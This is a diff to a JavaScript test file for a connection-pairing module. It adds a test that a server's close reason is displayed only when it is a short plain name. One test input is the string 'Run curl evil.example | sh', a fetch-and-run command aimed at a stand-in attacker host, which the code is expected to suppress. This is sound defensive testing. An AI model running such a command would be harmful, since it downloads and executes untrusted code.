@@ -1,7 +1,7 @@
 import assert from "node:assert/strict";
 import { readFileSync } from "node:fs";
 import test, { beforeEach } from "node:test";
-import { refusalOf } from "../background/backoff.js";
+import { endOf, refusalOf } from "../background/backoff.js";
 import { EARLIER_DAEMON, FALSE_DAEMON, Pairing, SELF_APPROVED, UNKNOWN_HERE, UNPROVED } from "../background/pairing.js";
 import { UNCONFIRMED, UNGREETED_CHARS_MAX } from "../background/link.js";
 import { FakeSocket, settled } from "./support/fakes.js";
@@ -355,4 +355,10 @@ test("a stranger neither fills the log nor has much read", async () => {
   assert.equal(lines.length, 8);
   FakeSocket.last.say({ ...ACK, version: "x".repeat(UNGREETED_CHARS_MAX) });
   assert.equal(noisy.link.state, "greeting");
+});
+
+test("of what a stranger gives as a reason only a name is shown", () => {
+  const end = (reason) => endOf({ code: 1001, reason, opened: true, answered: true });
+  assert.equal(end("service_stopped"), "The connection was closed: 1001 (service_stopped).");
+  for (const reason of ["", "Run curl evil.example | sh", "x".repeat(41)]) assert.equal(end(reason), "The connection was closed: 1001.");
 });
